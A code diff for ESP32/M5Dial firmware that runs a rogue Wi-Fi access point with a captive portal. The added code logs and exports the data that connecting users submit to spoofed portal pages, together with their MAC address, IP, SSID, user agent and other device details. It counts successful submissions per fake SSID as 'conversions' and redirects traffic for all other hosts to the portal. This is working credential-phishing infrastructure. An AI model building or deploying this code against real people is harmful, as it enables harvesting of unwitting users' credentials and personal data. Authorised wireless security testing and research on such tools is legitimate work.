+    strings.seek(captureStringOffsets[id]);
+    size_t length = 0;
+    int c;
+    while ((c = strings.read()) >= 0 && c != '\n') {
+        if (length + 1 >= bufferSize) return false;
+        buffer[length++] = (char)c;
+    }
+    buffer[length] = '\0';
+    return true;
+}
+
+void loadCaptureStore() {
+    if (captureStoreLoaded) return;
+    captureStoreLoaded = true;
+
+    // String ids and payload offsets only mean something to the records that
+    // hold them, so an incompatible store is cleared as a whole
+    CaptureStoreHeader header = {};
+    File records = SPIFFS.open(captureRecordsPath, "r");
+    if (records) {
+        bool valid = records.read((uint8_t*)&header, sizeof(header)) == sizeof(header) &&
+                     captureStoreHeaderValid(header);
+        records.close();
+        if (!valid) {
+            LOG_W("Capture store has an unknown format (version %u), clearing it", (unsigned)header.version);
+            SPIFFS.remove(captureRecordsPath);
+            SPIFFS.remove(capturePayloadPath);
+            SPIFFS.remove(captureStringsPath);
+        }
+    }
+    if (!SPIFFS.exists(captureRecordsPath)) {
+        header = currentCaptureStoreHeader();
+        records = SPIFFS.open(captureRecordsPath, FILE_WRITE);
+        if (records) {
+            records.write((const uint8_t*)&header, sizeof(header));
+            records.close();
+        }
+    }
+
+    File strings = SPIFFS.open(captureStringsPath, "r");
+    if (strings) {
+        uint32_t offset = 0;
+        uint32_t lineStart = 0;
+        uint32_t hash = 2166136261u;
+        int c;
+        while ((c = strings.read()) >= 0) {
+            offset++;
+            if (c == '\n') {
+                captureStringHashes.push_back(hash);
+                captureStringOffsets.push_back(lineStart);
+                lineStart = offset;
+                hash = 2166136261u;
+            } else {
+                hash = (hash ^ (uint8_t)c) * 16777619u;
             }
-            return;
         }
+        strings.close();
     }
-    
-    if (debugMode && verboseDebug) {
-        Serial.println("AP started with SSID: " + cleanSSID);
-        Serial.println("WiFi channel: 6");
-        Serial.println("Max connections: 4");
+
+    records = SPIFFS.open(captureRecordsPath, "r");
+    if (records) {
+        CaptureRecord record;
+        records.seek(sizeof(CaptureStoreHeader));
+        while (!captureSessions.full() && records.read((uint8_t*)&record, sizeof(record)) == sizeof(record)) {
+            captureSessions.push_back(record.session);
+            captureSSIDs.push_back(record.ssid);
+            captureBootId = record.bootId;
+        }
+        records.close();
     }
+    captureBootId++;
+    captureBootStart = captureSessions.size();
 
-    IPAddress myIP = WiFi.softAPIP();
-    if (debugMode && verboseDebug) {
-        Serial.print("AP IP address: ");
-        Serial.println(myIP);
+    LOG_D("Capture store: %u records, %u strings",
+          (unsigned)captureSessions.size(), (unsigned)captureStringHashes.size());
+}
+
+// Returns the string's id, adding it to the table if needed, or
+// noCaptureString for empty or oversized values and a full table
+uint16_t internCaptureString(const char* value) {
+    if (value == nullptr || value[0] == '\0') return noCaptureString;
+    size_t length = strlen(value);
+    if (length > captureMaxStringLength) return noCaptureString;
+
+    // The table is line-based, so newlines in values become spaces
+    char clean[captureMaxStringLength + 1];
+    for (size_t i = 0; i < length; i++) {
+        clean[i] = (value[i] == '\n' || value[i] == '\r') ? ' ' : value[i];
+    }
+    clean[length] = '\0';
+
+    uint32_t hash = captureHash(clean, length);
+    File strings = SPIFFS.open(captureStringsPath, "r");
+    for (size_t id = 0; id < captureStringHashes.size() && strings; id++) {
+        if (captureStringHashes[id] != hash) continue;
+        char existing[sizeof(clean)];
+        if (readCaptureString(strings, id, existing, sizeof(existing)) && strcmp(existing, clean) == 0) {
+            strings.close();
+            return id;
+        }
     }
+    if (strings) strings.close();
+
+    if (captureStringHashes.size() >= noCaptureString) return noCaptureString;
+    strings = SPIFFS.open(captureStringsPath, FILE_APPEND);
+    if (!strings) return noCaptureString;
+    uint32_t offset = strings.size();
+    strings.write((const uint8_t*)clean, length);
+    strings.write('\n');
+    strings.close();
+
+    captureStringHashes.push_back(hash);
+    captureStringOffsets.push_back(offset);
+    return captureStringHashes.size() - 1;
+}
 
-    M5Dial.Display.clear();
-    String connectText = "Connect to:";
-    String ipText = myIP.toString() + "/logs";
-    int16_t connectTextX = (M5Dial.Display.width() - M5Dial.Display.textWidth(connectText)) / 2;
-    int16_t ipTextY1 = M5Dial.Display.height() / 2 - 40;
-    M5Dial.Display.setCursor(connectTextX, ipTextY1);
-    M5Dial.Display.println(connectText);
+bool readCaptureRecord(File& records, size_t index, CaptureRecord& record) {
+    records.seek(sizeof(CaptureStoreHeader) + index * sizeof(CaptureRecord));
+    return records.read((uint8_t*)&record, sizeof(record)) == sizeof(record);
+}
 
-    int16_t ipTextX2 = (M5Dial.Display.width() - M5Dial.Display.textWidth(ipText)) / 2;
-    int16_t ipTextY2 = ipTextY1 + 30;
-    M5Dial.Display.setCursor(ipTextX2, ipTextY2);
-    M5Dial.Display.println(ipText);
-    drawRing(TFT_BLUE);
+// Parses and stores one submission. A body the same client already
+// submitted this boot is dropped; the station context supplies the MAC and
+// portal template.
+CaptureResult storeCapture(const String& body, uint32_t session, const char* ssid, const Station* station) {
+    loadCaptureStore();
+
+    uint32_t bodyHash = captureHash(body.c_str(), body.length());
+    const uint8_t* mac = station ? station->mac : nullptr;
+    File records = SPIFFS.open(captureRecordsPath, "r");
+    if (records) {
+        CaptureRecord existing;
+        for (size_t i = captureBootStart; i < captureSessions.size(); i++) {
+            if (!mac && captureSessions[i] != session) continue;
+            if (!readCaptureRecord(records, i, existing)) break;
+            if (existing.bodyHash == bodyHash && captureSameClient(existing, captureBootId, session, mac)) {
+                records.close();
+                captureStats.duplicates++;
+                return CAPTURE_DUPLICATE;
+            }
+        }
+        records.close();
+    }
 
-    // Add captive portal redirect handler
-    server.on("/generate_204", HTTP_GET, []() {
-        server.sendHeader("Location", "http://" + WiFi.softAPIP().toString());
-        server.send(302);
-    });
-    
-    server.on("/hotspot-detect.html", HTTP_GET, []() {
-        server.sendHeader("Location", "http://" + WiFi.softAPIP().toString());
-        server.send(302);
-    });
+    JsonDocument doc;
+    if (captureSessions.size() >= maxCaptures || deserializeJson(doc, body) || !doc.is<JsonObject>()) {
+        captureStats.rejected++;
+        return CAPTURE_REJECTED;
+    }
 
-    dnsServer.start(DNS_PORT, "*", myIP);
-    setupWebServerRoutes();
-    server.begin();
-    isPortalRunning = true;
-    if (debugMode && verboseDebug) {
-        Serial.println("HTTP server started");
-        Serial.println("Captive portal active at http://" + myIP.toString());
+    CaptureRecord record = {};
+    record.bootId = captureBootId;
+    record.capturedAtMs = millis();
+    record.session = session;
+    record.bodyHash = bodyHash;
+    record.ssid = internCaptureString(ssid);
+    record.portal = noCaptureString;
+    if (station) {
+        memcpy(record.mac, station->mac, 6);
+        record.portal = internCaptureString(station->portalPage);
+    }
+    uint16_t* internedIds[] = { &record.userAgent, &record.platform, &record.language, &record.timezone };
+    for (int i = 0; i < capturedInternedKeyCount; i++) {
+        // Values the table can't hold stay in the payload
+        *internedIds[i] = internCaptureString(doc[capturedInternedKeys[i]].as<const char*>());
+        if (*internedIds[i] != noCaptureString) doc.remove(capturedInternedKeys[i]);
     }
-    currentScreen = PORTAL_SCREEN;
+
+    ScopedTimer flashTimer(flashWriteMetric);
+    File payload = SPIFFS.open(capturePayloadPath, FILE_APPEND);
+    if (!payload) {
+        captureStats.rejected++;
+        return CAPTURE_REJECTED;
+    }
+    record.payloadOffset = payload.size();
+    record.payloadLength = serializeJson(doc, payload);
+    payload.close();
+
+    records = SPIFFS.open(captureRecordsPath, FILE_APPEND);
+    if (!records) {
+        captureStats.rejected++;
+        return CAPTURE_REJECTED;
+    }
+    records.write((const uint8_t*)&record, sizeof(record));
+    records.close();
+
+    captureSessions.push_back(session);
+    captureSSIDs.push_back(record.ssid);
+    captureStats.stored++;
+    return CAPTURE_STORED;
 }
 
-void stopCaptivePortal() {
-    if (isPortalRunning) {
-        server.close();
-        dnsServer.stop();
-        WiFi.softAPdisconnect(true);
-        isPortalRunning = false;
-        if (debugMode && verboseDebug) {
-            Serial.println("Captive portal stopped");
+struct CaptureQuery {
+    bool csv;
+    bool bySession;
+    uint32_t session;
+    bool bySSID;
+    uint16_t ssid;
+    size_t since;   // first record index
+    size_t limit;
+};
+
+void writeCaptureCsvField(ChunkedWriter& out, const char* text) {
+    out.raw('"');
+    for (; *text; text++) {
+        if (*text == '"') out.raw('"');
+        out.raw(*text);
+    }
+    out.raw('"');
+}
+
+// Copies the payload members (the serialized object without its braces)
+void copyCapturePayload(ChunkedWriter& out, File& payload, const CaptureRecord& record, bool csv) {
+    if (record.payloadLength <= 2) return;
+    payload.seek(record.payloadOffset + 1);
+    size_t remaining = record.payloadLength - 2;
+    char chunk[64];
+    while (remaining > 0) {
+        size_t count = payload.read((uint8_t*)chunk, remaining < sizeof(chunk) ? remaining : sizeof(chunk));
+        if (count == 0) break;
+        for (size_t i = 0; i < count; i++) {
+            if (csv && chunk[i] == '"') out.raw('"');
+            out.raw(chunk[i]);
         }
-        WiFi.mode(WIFI_STA);
-        delay(500);
+        remaining -= count;
     }
 }
 
-void handlePortalScreen() {
-    if (debugMode && isPortalRunning) {
-        dnsServer.processNextRequest();
-        server.handleClient();
-        int clientCount = WiFi.softAPgetStationNum();
-        String clientsText = "Clients: " + String(clientCount);
+void writeCaptureRecord(JsonWriter& out, const CaptureQuery& query, size_t index,
+                        const CaptureRecord& record, File& strings, File& payload) {
+    static const char* const columns[] = { "ssid", "portal", "userAgent", "platform", "language", "timezone" };
+    const uint16_t ids[] = { record.ssid, record.portal, record.userAgent, record.platform, record.language, record.timezone };
+    const int columnCount = sizeof(ids) / sizeof(ids[0]);
+    char session[16];
+    snprintf(session, sizeof(session), "%u.%u.%u.%u",
+             (unsigned)(record.session & 0xff), (unsigned)((record.session >> 8) & 0xff),
+             (unsigned)((record.session >> 16) & 0xff), (unsigned)(record.session >> 24));
+    char mac[18];
+    snprintf(mac, sizeof(mac), "%02x:%02x:%02x:%02x:%02x:%02x",
+             record.mac[0], record.mac[1], record.mac[2], record.mac[3], record.mac[4], record.mac[5]);
+    char value[captureMaxStringLength + 1];
+
+    if (query.csv) {
+        char number[12];
+        snprintf(number, sizeof(number), "%u", (unsigned)index);
+        out.raw(number);
+        out.raw(',');
+        snprintf(number, sizeof(number), "%u", (unsigned)record.bootId);
+        out.raw(number);
+        out.raw(',');
+        snprintf(number, sizeof(number), "%u", (unsigned)record.capturedAtMs);
+        out.raw(number);
+        out.raw(',');
+        out.raw(session);
+        out.raw(',');
+        out.raw(mac);
+        for (int i = 0; i < columnCount; i++) {
+            out.raw(',');
+            if (!readCaptureString(strings, ids[i], value, sizeof(value))) value[0] = '\0';
+            writeCaptureCsvField(out, value);
+        }
+        out.raw(",\"{");
+        copyCapturePayload(out, payload, record, true);
+        out.raw("}\"\r\n");
+        return;
+    }
 
-        int16_t clientsTextX = (M5Dial.Display.width() - M5Dial.Display.textWidth(clientsText)) / 2;
-        int16_t clientsTextY = M5Dial.Display.height() / 2 + 30;
+    out.beginObject();
+    out.field("record", index);
+    out.field("bootId", record.bootId);
+    out.field("capturedAtMs", record.capturedAtMs);
+    out.field("session", session);
+    out.field("mac", mac);
+    for (int i = 0; i < columnCount; i++) {
+        if (readCaptureString(strings, ids[i], value, sizeof(value))) {
+            out.field(columns[i], value);
+        }
+    }
+    if (record.payloadLength > 2) {
+        out.rawMember();
+        copyCapturePayload(out, payload, record, false);
+    }
+    out.endObject();
+    out.newline();
+}
 
-        M5Dial.Display.fillRect(0, clientsTextY - 5, M5Dial.Display.width(), M5Dial.Display.fontHeight() + 10, TFT_BLACK);
-        M5Dial.Display.setCursor(clientsTextX, clientsTextY);
-        M5Dial.Display.setTextSize(defaultTextSize);
-        M5Dial.Display.setTextColor(WHITE, BLACK);
-        M5Dial.Display.println(clientsText);
-        drawRing(TFT_BLUE);
+// GET /captures?format=jsonl|csv&session=<ip>&ssid=<name>&since=<record>&limit=<n>
+void handleCaptures() {
+    loadCaptureStore();
+
+    CaptureQuery query = {};
+    query.csv = server.arg("format") == "csv";
+    query.limit = server.hasArg("limit") ? server.arg("limit").toInt() : maxCaptures;
+    query.since = server.hasArg("since") ? server.arg("since").toInt() : 0;
+    if (server.hasArg("session")) {
+        IPAddress address;
+        query.bySession = address.fromString(server.arg("session"));
+        query.session = (uint32_t)address;
     }
 
-    if (M5Dial.BtnA.wasPressed()) {
-        if (debugMode && isPortalRunning) {
-            stopCaptivePortal();
+    File strings = SPIFFS.open(captureStringsPath, "r");
+    if (server.hasArg("ssid")) {
+        // An SSID that was never interned cannot match any record
+        String ssid = server.arg("ssid");
+        uint32_t hash = captureHash(ssid.c_str(), ssid.length());
+        query.bySSID = true;
+        query.ssid = noCaptureString;
+        char value[captureMaxStringLength + 1];
+        for (size_t id = 0; id < captureStringHashes.size() && strings; id++) {
+            if (captureStringHashes[id] == hash && readCaptureString(strings, id, value, sizeof(value)) &&
+                ssid.equals(value)) {
+                query.ssid = id;
+                break;
+            }
         }
-        currentScreen = MENU_SCREEN;
-        drawMenu(currentIndex);
     }
+
+    JsonResponse out(200, query.csv ? "text/csv" : "application/x-ndjson");
+    if (query.csv) {
+        out.raw("record,bootId,capturedAtMs,session,mac,ssid,portal,userAgent,platform,language,timezone,fields\r\n");
+    }
+
+    File records = SPIFFS.open(captureRecordsPath, "r");
+    File payload = SPIFFS.open(capturePayloadPath, "r");
+    size_t written = 0;
+    CaptureRecord record;
+    for (size_t i = query.since; i < captureSessions.size() && written < query.limit && records; i++) {
+        if (query.bySession && captureSessions[i] != query.session) continue;
+        if (query.bySSID && captureSSIDs[i] != query.ssid) continue;
+        if (!readCaptureRecord(records, i, record)) break;
+        writeCaptureRecord(out, query, i, record, strings, payload);
+        written++;
+    }
+    if (records) records.close();
+    if (payload) payload.close();
+    if (strings) strings.close();
+
+    noteStationActivity(out.end());
 }
 
-void setupWebServerRoutes() {
-    server.on("/upload", HTTP_GET, []() {
-        // Hardcode the entire HTML as a raw string literal
-        // (Requires C++11 or later)
-        const char htmlPage[] = R"HTML(
-    <!DOCTYPE html>
-    <html lang="en">
-    <head>
-        <meta charset="UTF-8">
-        <meta name="viewport" content="width=device-width, initial-scale=1.0">
-        <title>Device Control Panel</title>
-        <style>
-            body {
-                font-family: Arial, sans-serif;
-                background-color: #f4f4f4;
-                margin: 0;
-                padding: 20px;
-            }
-            .container {
-                max-width: 800px;
-                margin: 0 auto;
-                background: white;
-                padding: 20px;
-                border-radius: 8px;
-                box-shadow: 0 0 10px rgba(0,0,0,0.1);
-            }
-            h1 {
-                color: #333;
-                text-align: center;
-            }
-            .section {
-                margin-bottom: 30px;
-            }
-            .file-upload {
-                border: 2px dashed #ccc;
-                padding: 20px;
-                text-align: center;
-                margin-bottom: 20px;
-            }
-            .controls {
-                display: grid;
-                grid-template-columns: repeat(auto-fit, minmax(150px, 1fr));
-                gap: 10px;
-            }
-            button {
-                background-color: #4CAF50;
-                color: white;
-                border: none;
-                padding: 15px;
-                border-radius: 5px;
-                cursor: pointer;
-                font-size: 16px;
-            }
-            button:hover {
-                background-color: #45a049;
-            }
-            .file-list {
-                margin-top: 20px;
-            }
-            .file-item {
-                display: flex;
-                justify-content: space-between;
-                padding: 10px;
-                border-bottom: 1px solid #eee;
-            }
-            .status {
-                margin-top: 20px;
-                padding: 15px;
-                background-color: #f8f8f8;
-                border-radius: 5px;
+// Command handler
+void handleCommand() {
+    const String& command = server.pathArg(0);
+
+    if (command == "replay") {
+        if (!SPIFFS.exists(replayPath)) {
+            sendJsonLiteral(404, "{\"error\":\"Upload /replay.pcap first\"}");
+            return;
+        }
+        replay.armed = true;
+        replay.speed = server.hasArg("speed") ? max(0L, server.arg("speed").toInt()) : 1;
+    } else if (command == "trace") {
+        // ?enable=1 starts a fresh trace, ?enable=0 stops;
+        // ?serial=1 dumps the ring on Serial
+        if (server.hasArg("enable")) {
+            bool enable = server.arg("enable") != "0";
+            if (enable && !tracingEnabled) {
+                traceStart.store(traceHead.load(std::memory_order_relaxed), std::memory_order_relaxed);
             }
-        </style>
-    </head>
-    <body>
-        <div class="container">
-            <h1>Device Control Panel</h1>
-            
-            <div class="section">
-                <h2>File Management</h2>
-                <div class="file-upload">
-                    <input type="file" id="fileInput" multiple>
-                    <button onclick="uploadFiles()">Upload Files</button>
-                </div>
-                <div class="file-list" id="fileList">
-                    <!-- Files will be listed here -->
-                </div>
-            </div>
+            tracingEnabled = enable;
+        }
+        if (server.arg("serial") == "1") requestSerialDump(SERIAL_DUMP_TRACE);
+    }
 
-        </div>
+    JsonResponse json(200);
+    json.beginObject();
+    json.key("message");
+    json.beginString();
+    json.appendString("Command executed: ");
+    json.appendString(command.c_str());
+    json.endString();
+    json.endObject();
+    json.end();
+
+    LOG_D("Command executed: %s", command.c_str());
+}
 
-        <script>
-            async function uploadFiles() {
-                const fileInput = document.getElementById('fileInput');
-                const files = fileInput.files;
-                const formData = new FormData();
-                
-                for (let i = 0; i < files.length; i++) {
-                    formData.append('files', files[i]);
-                }
+void handleFormSubmit() {
+    if (server.hasArg("plain")) {
+        String body = server.arg("plain");
+        uint32_t clientIP = (uint32_t)server.client().remoteIP();
+        logData(body);
+        // Resubmissions and unparseable bodies are not conversions
+        bool stored = storeCapture(body, clientIP, netStatus.currentSSID, findStationByIP(clientIP)) == CAPTURE_STORED;
+        SSIDStats* stats = findSSIDStats(netStatus.currentSSID);
+        if (stats && stored) stats->submissions++;
+        sendJsonLiteral(200, R"({"status":"ok"})");
+        noteStationActivity(0, stored);
+    } else {
+        sendJsonLiteral(400, R"({"status":"fail"})");
+    }
+}
 
-                try {
-                    const response = await fetch('/upload', {
-                        method: 'POST',
-                        body: formData
-                    });
-                    
-                    const result = await response.json();
-                    if (result.success) {
-                        updateFileList();
-                        showStatus('Files uploaded successfully');
-                    } else {
-                        showStatus('Error uploading files');
-                    }
-                } catch (error) {
-                    showStatus('Upload failed: ' + error.message);
-                }
-            }
+void logData(String data) {
+    TRACE_SCOPE("logData", TRACE_STORAGE);
+    ScopedTimer flashTimer(flashWriteMetric);
+    File logFile = SPIFFS.open("/log.txt", FILE_APPEND);
+    if (logFile) {
+        logFile.println(data);
+        logFile.close();
+        LOG_D("Data logged.");
+    } else {
+        LOG_D("Failed to open log file.");
+    }
+}
 
-            async function updateFileList() {
-                try {
-                    const response = await fetch('/files');
-                    const files = await response.json();
-                    const fileList = document.getElementById('fileList');
-                    fileList.innerHTML = files.map(file => `
-                        <div class="file-item">
-                            <span>${file.name}</span>
-                            <button onclick="deleteFile('${file.name}')">Delete</button>
-                        </div>
-                    `).join('');
-                } catch (error) {
-                    showStatus('Error fetching file list');
-                }
-            }
+// Route dispatch. Every request goes through one RequestHandler that looks the
+// path up in a hash index built from the const tables below, instead of
+// WebServer walking its handler list and falling back to onNotFound.
+struct Route {
+    HTTPMethod method;
+    const char* path;
+    void (*handler)();
+    void (*upload)();
+};
 
-            async function deleteFile(filename) {
-                try {
-                    // Call the query-param-based endpoint
-                    const response = await fetch(`/deleteFile?filename=${encodeURIComponent(filename)}`, {
-                    method: 'DELETE'
-                    });
-                    const result = await response.json();
-                    if (result.success) {
-                    updateFileList();
-                    showStatus('File deleted successfully');
-                    } else {
-                    showStatus('Error deleting file');
-                    }
-                } catch (error) {
-                    showStatus('Delete failed: ' + error.message);
-                }
-            }
+const Route routes[] = {
+    // method       path           handler            upload
+    { HTTP_GET,     "/upload",     handleUploadPage,  nullptr },
+    { HTTP_POST,    "/upload",     handleUploadDone,  handleUploadData },
+    { HTTP_POST,    "/submit",     handleFormSubmit,  nullptr },
+    { HTTP_GET,     "/logs",       handleLogs,        nullptr },
+    { HTTP_GET,     "/files",      handleFileList,    nullptr },
+    { HTTP_GET,     "/stations",   handleStations,    nullptr },
+    { HTTP_GET,     "/captures",   handleCaptures,    nullptr },
+    { HTTP_GET,     "/pcap",       handlePcap,        nullptr },
+    { HTTP_GET,     "/devices",    handleDevices,     nullptr },
+    { HTTP_GET,     "/ssid-stats", handleSSIDStats,   nullptr },
+    { HTTP_GET,     "/metrics",    handleMetrics,     nullptr },
+    { HTTP_GET,     "/boot",       handleBootTimeline, nullptr },
+    { HTTP_GET,     "/trace",      handleTrace,       nullptr },
+    { HTTP_DELETE,  "/deleteFile", handleDeleteFile,  nullptr },
+};
+const int routeCount = sizeof(routes) / sizeof(routes[0]);
 
-            async function sendCommand(command) {
-                try {
-                    const response = await fetch(`/command/${command}`, {
-                        method: 'POST'
-                    });
-                    const result = await response.json();
-                    showStatus(result.message || 'Command executed');
-                } catch (error) {
-                    showStatus('Command failed: ' + error.message);
-                }
-            }
+// Routes matched by prefix; the remainder of the path becomes pathArg(0)
+const Route prefixRoutes[] = {
+    { HTTP_POST,    "/command/",   handleCommand,     nullptr },
+};
+const int prefixRouteCount = sizeof(prefixRoutes) / sizeof(prefixRoutes[0]);
 
-            function showStatus(message) {
-                const status = document.getElementById('statusMessage');
-                if (!status) {
-                    // If there's no status element in the HTML, you can do something else
-                    console.log('STATUS:', message);
-                    return;
-                }
-                status.textContent = message;
-                setTimeout(() => status.textContent = '', 3000);
-            }
+// Index over routes and captive probes; probes are stored after the routes
+const int routeIndexSize = 64;
+RouteIndex<routeIndexSize> routeIndex;
 
-            // Initial file list load
-            updateFileList();
-        </script>
-    </body>
-    </html>
-    )HTML";
+void buildRouteIndex() {
+    static_assert(routeIndexSize >= 2 * (routeCount + captiveProbeCount), "route index too small");
+    routeIndex.clear();
+    for (int i = 0; i < routeCount; i++) {
+        routeIndex.add(routes[i].method, routes[i].path, i);
+    }
+    for (int i = 0; i < captiveProbeCount; i++) {
+        routeIndex.add(HTTP_GET, captiveProbes[i].path, routeCount + i);
+    }
+}
 
-        // Send the page to the client
-        server.send(200, "text/html", htmlPage);
+// Returns the route or probe entry for method + path, or -1
+int findRouteEntry(HTTPMethod method, const char* path) {
+    return routeIndex.find(method, path, [&](int entry) {
+        if (entry < routeCount) return routes[entry].method == method && strcmp(routes[entry].path, path) == 0;
+        return method == HTTP_GET && strcmp(captiveProbes[entry - routeCount].path, path) == 0;
     });
+}
 
+// Asset cache
+size_t assetCacheBudget() {
+    return ESP.getPsramSize() > 0 ? assetCacheBudgetPsram : assetCacheBudgetInternal;
+}
 
-    // Serve static files from SPIFFS
-    server.onNotFound([]() {
-        // First check if the requested file exists
-        String path = server.uri();
-        if (path.endsWith("/")) {
-            path += "index.html";
-        }
-
-        if (SPIFFS.exists(path)) {
-            // Determine MIME type from file extension
-            String contentType = "text/plain";
-            if (path.endsWith(".html")) contentType = "text/html";
-            else if (path.endsWith(".css")) contentType = "text/css";
-            else if (path.endsWith(".js")) contentType = "application/javascript";
-            else if (path.endsWith(".png")) contentType = "image/png";
-            else if (path.endsWith(".jpg") || path.endsWith(".jpeg")) contentType = "image/jpeg";
-            else if (path.endsWith(".gif")) contentType = "image/gif";
-            else if (path.endsWith(".ico")) contentType = "image/x-icon";
-            else if (path.endsWith(".txt")) contentType = "text/plain";
-            else if (path.endsWith(".json")) contentType = "application/json";
-
-            File file = SPIFFS.open(path, "r");
-            if (!file) {
-                server.send(404, "text/plain", "File not found");
-                return;
-            }
-            server.streamFile(file, contentType);
-            file.close();
-            return;
+void assetCacheEvict(CachedAsset& asset) {
+    free(asset.data);
+    assetCacheBytes -= asset.size;
+    memset(&asset, 0, sizeof(CachedAsset));
+}
+
+void assetCacheInvalidate(const char* path) {
+    for (int i = 0; i < maxCachedAssets; i++) {
+        if (assetCache[i].data && strcmp(assetCache[i].path, path) == 0) {
+            assetCacheEvict(assetCache[i]);
         }
+    }
+}
 
-        server.send(404, "text/plain", "File not found");
+void assetCacheClear() {
+    for (int i = 0; i < maxCachedAssets; i++) {
+        if (assetCache[i].data) assetCacheEvict(assetCache[i]);
+    }
+}
 
-        // If you really need to do something with `server.uri()` after this,
-        // rename it to avoid redeclaration:
-        String path404 = server.uri();
-        if (path404.endsWith("/")) {
-            path404 += "index.html";
+CachedAsset* assetCacheFind(const char* path) {
+    for (int i = 0; i < maxCachedAssets; i++) {
+        if (assetCache[i].data && strcmp(assetCache[i].path, path) == 0) {
+            assetCache[i].lastUsed = ++assetCacheClock;
+            return &assetCache[i];
         }
+    }
+    return nullptr;
+}
 
-        // Check if file exists
-        if (!SPIFFS.exists(path)) {
-            server.send(404, "text/plain", "File not found");
-            return;
+// Reads a file into the cache, evicting LRU entries to make room. Files over
+// half the budget are never cached so one asset cannot flush all the others.
+CachedAsset* assetCacheLoad(const char* path) {
+    size_t budget = assetCacheBudget();
+    if (strlen(path) >= sizeof(assetCache[0].path)) return nullptr;
+    File file = SPIFFS.open(path, "r");
+    if (!file || file.isDirectory()) return nullptr;
+    size_t size = file.size();
+    if (size == 0 || size > budget / 2) {
+        file.close();
+        return nullptr;
+    }
+
+    for (;;) {
+        CachedAsset* freeSlot = nullptr;
+        CachedAsset* oldest = nullptr;
+        for (int i = 0; i < maxCachedAssets; i++) {
+            CachedAsset& asset = assetCache[i];
+            if (!asset.data) {
+                if (!freeSlot) freeSlot = &asset;
+            } else if (!oldest || asset.lastUsed < oldest->lastUsed) {
+                oldest = &asset;
+            }
+        }
+        if (freeSlot && assetCacheBytes + size <= budget) break;
+        if (!oldest) {
+            file.close();
+            return nullptr;
         }
+        assetCacheEvict(*oldest);
+        assetCacheStats.evictions++;
+    }
+
+    CachedAsset* slot = nullptr;
+    for (int i = 0; i < maxCachedAssets && !slot; i++) {
+        if (!assetCache[i].data) slot = &assetCache[i];
+    }
+    uint8_t* data = (uint8_t*)(ESP.getPsramSize() > 0 ? heap_caps_malloc(size, MALLOC_CAP_SPIRAM) : malloc(size));
+    if (!data) {
+        file.close();
+        return nullptr;
+    }
+    if (file.read(data, size) != size) {
+        free(data);
+        file.close();
+        return nullptr;
+    }
+    file.close();
+
+    strncpy(slot->path, path, sizeof(slot->path) - 1);
+    slot->data = data;
+    slot->size = size;
+    slot->contentType = contentTypeFor(path);
+    slot->lastUsed = ++assetCacheClock;
+    assetCacheBytes += size;
+    return slot;
+}
+
+// Preloads the web files in the SPIFFS root when the portal comes up
+void assetCacheWarm() {
+    File root = SPIFFS.open("/");
+    File file = root.openNextFile();
+    while (file) {
+        char path[sizeof(assetCache[0].path)];
+        snprintf(path, sizeof(path), "%s%s", file.name()[0] == '/' ? "" : "/", file.name());
+        bool web = pathEndsWith(path, ".html") || pathEndsWith(path, ".css") || pathEndsWith(path, ".js");
+        file.close();
+        if (web && !assetCacheFind(path)) assetCacheLoad(path);
+        file = root.openNextFile();
+    }
+    LOG_D("Asset cache warmed: %u bytes of %u", (unsigned)assetCacheBytes, (unsigned)assetCacheBudget());
+}
 
-        // Determine MIME type from file extension
-        String contentType = "text/plain";
-        if (path.endsWith(".html")) contentType = "text/html";
-        else if (path.endsWith(".css")) contentType = "text/css";
-        else if (path.endsWith(".js")) contentType = "application/javascript";
-        else if (path.endsWith(".png")) contentType = "image/png";
-        else if (path.endsWith(".jpg") || path.endsWith(".jpeg")) contentType = "image/jpeg";
-        else if (path.endsWith(".gif")) contentType = "image/gif";
-        else if (path.endsWith(".ico")) contentType = "image/x-icon";
-        else if (path.endsWith(".txt")) contentType = "text/plain";
-        else if (path.endsWith(".json")) contentType = "application/json";
+// Sends a file from the cache, loading it on a miss, or streams it from
+// SPIFFS if it cannot be cached. Returns false if the file does not exist.
+bool serveAsset(const char* path) {
+    uint32_t start = micros();
+    CachedAsset* asset = assetCacheFind(path);
+    if (asset) {
+        assetCacheStats.hits++;
+    } else {
+        assetCacheStats.misses++;
+        if (!SPIFFS.exists(path)) return false;
+        asset = assetCacheLoad(path);
+    }
 
+    const char* contentType;
+    size_t sent;
+    if (asset) {
+        contentType = asset->contentType;
+        server.send_P(200, contentType, (const char*)asset->data, asset->size);
+        sent = asset->size;
+        assetCacheStats.bytesFromCache += sent;
+        assetCacheStats.cacheResponseUs += micros() - start;
+    } else {
         File file = SPIFFS.open(path, "r");
-        if (!file) {
-            server.send(404, "text/plain", "File not found");
-            return;
-        }
-        server.streamFile(file, contentType);
+        if (!file) return false;
+        contentType = contentTypeFor(path);
+        sent = server.streamFile(file, contentType);
         file.close();
-    });
+        assetCacheStats.bytesFromFlash += sent;
+        assetCacheStats.flashResponseUs += micros() - start;
+    }
+
+    noteStationActivity(sent);
+    if (strcmp(contentType, "text/html") == 0) notePortalPageServed(path);
+    return true;
+}
+
+// Single fallback for everything not in the route table: serve the file if it
+// exists, send requests for other hosts to the portal, and answer anything
+// else on our own host with the portal page.
+void handleStaticFile() {
+    String uri = server.uri();
+    const char* path = uri.c_str();
+    if (uri.endsWith("/")) {
+        path = requestArena.printf("%sindex.html", uri.c_str());
+        if (!path) path = "/index.html";
+    }
 
-    // Special handlers for captive portal redirects
-    server.on("/generate_204", HTTP_GET, []() {
-        server.sendHeader("Location", "http://" + WiFi.softAPIP().toString());
-        server.send(302);
-    });
-    
-    server.on("/hotspot-detect.html", HTTP_GET, []() {
-        server.sendHeader("Location", "http://" + WiFi.softAPIP().toString());
-        server.send(302);
-    });
+    if (serveAsset(path)) return;
 
-    // Form submission handler
-    server.on("/submit", HTTP_POST, handleFormSubmit);
+    String host = server.hostHeader();
+    if (host.length() > 0 && !host.equals(IPAddress(readNetStatus().ip).toString())) {
+        server.sendHeader("Location", portalLocation);
+        server.send_P(302, "text/html", captiveProbeBody, sizeof(captiveProbeBody) - 1);
+        noteStationActivity(sizeof(captiveProbeBody) - 1);
+        return;
+    }
 
-    // Logs endpoint
-    server.on("/logs", HTTP_GET, []() {
-        File logFile = SPIFFS.open("/log.txt", "r");
-        if (logFile) {
-            server.streamFile(logFile, "text/plain");
-            logFile.close();
-        } else {
-            server.send(404, "text/plain", "No logs found.");
-        }
-    });
+    if (!serveAsset("/index.html")) {
+        LOG_D("File not found: /index.html on NotFound");
+        server.send(404, "text/plain", "File not found");
+    }
+}
 
-    // Enhanced file upload handler with directory support
-    server.on("/upload", HTTP_POST, []() {
-        server.send(200, "application/json", "{\"success\":true}");
